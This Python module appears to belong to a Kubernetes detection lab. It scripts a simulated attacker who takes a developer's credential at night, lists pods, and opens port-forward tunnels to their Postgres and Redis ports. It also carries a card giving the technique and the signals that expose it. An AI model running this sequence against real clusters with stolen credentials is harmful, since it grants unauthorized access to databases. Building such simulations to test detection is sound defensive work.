"""Attack: port-forward into the databases at night.

Found by `catalog`; run by `run`. What it does and how it should be seen stands in the card.
"""

from __future__ import annotations

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, context, paths, session

CARD = base.Card(
    id="port-forward",
    title="Port-forward into the databases at night",
    technique=base.Technique(id="T1572", name="Protocol Tunneling", tactic="Command and Control"),
    use_case=vocabulary.UseCase.LATERAL_MOVEMENT,
    subtlety=base.Subtlety.OBVIOUS,
    does=(
        "Opens tunnels to the database ports of several pods with a developer's credential in the middle of the night."
    ),
    seen_by="pods/portforward to pods and at hours the developer does not use.",
    cleans_up="Leaves nothing behind: it only reads.",
    victim=base.Part.DEVELOPER,
    when=base.When.NIGHT,
    needs=("kubelet endpoint: without one the API server answers the tunnel with an error",),
    catalogues=("Microsoft: Cluster internal networking",),
)
"""What a reader should know before it is run."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(base.Part.DEVELOPER)
    thief = ctx.act_as(victim)
    namespace = victim.namespaces[0] if victim.namespaces else victim.namespace
    answer = yield thief.get(paths.core("pods", namespace), {"limit": 500})
    for _, pod in answer.items()[:4]:
        yield thief.get(paths.core("pods", namespace, pod))
        for port in ("5432", "6379"):
            path = paths.core("pods", namespace, pod, "portforward")
            yield thief.stream(path, {"ports": port}, protocol=session.TUNNEL)


ATTACK = base.Attack(card=CARD, script=script)
"""The entry that `catalog` looks for."""
